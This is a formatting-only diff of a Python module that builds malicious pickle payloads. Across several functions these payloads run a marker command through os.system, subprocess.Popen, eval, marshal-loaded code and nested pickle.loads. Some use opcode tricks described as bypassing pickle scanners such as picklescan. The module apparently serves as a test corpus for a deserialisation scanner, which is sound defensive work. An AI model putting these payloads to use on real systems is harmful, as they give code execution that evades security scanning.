@@ -27,26 +27,42 @@ def proto(n: int = 4) -> bytes:
 
 
 def system_call(cmd: str = MARK_CMD) -> bytes:
-    return proto(2) + b"cposix\nsystem\n" + b"X" + struct.pack("<I", len(cmd)) + cmd.encode() \
+    return (
+        proto(2)
+        + b"cposix\nsystem\n"
+        + b"X"
+        + struct.pack("<I", len(cmd))
+        + cmd.encode()
         + b"\x85R."
+    )
 
 
 def memoized_stack_global() -> bytes:
     """Module and name strings memoized first, fetched with BINGET later (picklescan bypass)."""
-    return (proto(4) + s("os") + b"\x94" + s("unused") + b"\x94" + b"0" + s("system") + b"\x94"
-            + b"0" + b"h\x00h\x02\x93" + s(MARK_CMD) + b"\x85R.")
+    return (
+        proto(4)
+        + s("os")
+        + b"\x94"
+        + s("unused")
+        + b"\x94"
+        + b"0"
+        + s("system")
+        + b"\x94"
+        + b"0"
+        + b"h\x00h\x02\x93"
+        + s(MARK_CMD)
+        + b"\x85R."
+    )
 
 
 def dup_stack_global() -> bytes:
     """Name built on the stack then duplicated (DUP + MEMOIZE) before STACK_GLOBAL."""
-    return (proto(4) + s("posix") + s("system") + b"2" + b"0" + b"\x93"
-            + s(MARK_CMD) + b"\x85R.")
+    return proto(4) + s("posix") + s("system") + b"2" + b"0" + b"\x93" + s(MARK_CMD) + b"\x85R."
 
 
 def python2_names() -> bytes:
     """Protocol 0 with Python 2 module names that fix_imports remaps (__builtin__ -> builtins)."""
-    return (b"c__builtin__\neval\n(V__import__('os').system('" + MARK_CMD.encode()
-            + b"')\ntR.")
+    return b"c__builtin__\neval\n(V__import__('os').system('" + MARK_CMD.encode() + b"')\ntR."
 
 
 def inst_opcode() -> bytes:
@@ -59,8 +75,18 @@ def obj_opcode() -> bytes:
 
 def newobj_ex() -> bytes:
     """NEWOBJ_EX of subprocess.Popen (args list + kwargs)."""
-    return (proto(4) + stack_global("subprocess", "Popen") + b"]" + s("echo") + b"a" + b"\x85"
-            + b"}" + s("shell") + b"\x89s" + b"\x92.")
+    return (
+        proto(4)
+        + stack_global("subprocess", "Popen")
+        + b"]"
+        + s("echo")
+        + b"a"
+        + b"\x85"
+        + b"}"
+        + s("shell")
+        + b"\x89s"
+        + b"\x92."
+    )
 
 
 def getattr_chain() -> bytes:
@@ -92,8 +118,14 @@ def exception_oriented() -> bytes:
 
 def ext_code() -> bytes:
     """EXT1 reference: only resolvable where copyreg has the code registered."""
-    return proto(2) + b"\x82\x07" + b"X" + struct.pack("<I", len(MARK_CMD)) + MARK_CMD.encode() \
+    return (
+        proto(2)
+        + b"\x82\x07"
+        + b"X"
+        + struct.pack("<I", len(MARK_CMD))
+        + MARK_CMD.encode()
         + b"\x85R."
+    )
 
 
 def stacked(first: bytes, second: bytes) -> bytes:
@@ -106,15 +138,26 @@ def nested_loads(inner: bytes, via: str = "raw") -> bytes:
 
     if via == "base64":
         text = base64.b64encode(inner).decode()
-        arg = call1(stack_global("base64", "b64decode"), s(text) if len(text) < 256 else
-                    b"X" + struct.pack("<I", len(text)) + text.encode())
+        arg = call1(
+            stack_global("base64", "b64decode"),
+            s(text) if len(text) < 256 else b"X" + struct.pack("<I", len(text)) + text.encode(),
+        )
     elif via == "latin1":
         text = inner.decode("latin-1").encode("utf-8")
-        arg = stack_global("_codecs", "encode") + b"X" + struct.pack("<I", len(text)) + text \
-            + s("latin1") + b"\x86R"
+        arg = (
+            stack_global("_codecs", "encode")
+            + b"X"
+            + struct.pack("<I", len(text))
+            + text
+            + s("latin1")
+            + b"\x86R"
+        )
     else:
-        arg = b"C" + bytes([len(inner)]) + inner if len(inner) < 256 else \
-            b"B" + struct.pack("<I", len(inner)) + inner
+        arg = (
+            b"C" + bytes([len(inner)]) + inner
+            if len(inner) < 256
+            else b"B" + struct.pack("<I", len(inner)) + inner
+        )
     return proto(4) + stack_global("pickle", "loads") + arg + b"\x85R."
 
 
@@ -123,9 +166,15 @@ def marshal_function() -> bytes:
     import marshal
 
     code = marshal.dumps(compile(f"__import__('os').system('{MARK_CMD}')", "<x>", "exec"))
-    loads = stack_global("marshal", "loads") + b"C" + bytes([len(code)]) + code + b"\x85R" \
-        if len(code) < 256 else stack_global("marshal", "loads") + b"B" + \
-        struct.pack("<I", len(code)) + code + b"\x85R"
+    loads = (
+        stack_global("marshal", "loads") + b"C" + bytes([len(code)]) + code + b"\x85R"
+        if len(code) < 256
+        else stack_global("marshal", "loads")
+        + b"B"
+        + struct.pack("<I", len(code))
+        + code
+        + b"\x85R"
+    )
     func = stack_global("types", "FunctionType") + loads + b"}" + b"\x86R"
     return proto(4) + func + b")R."
 
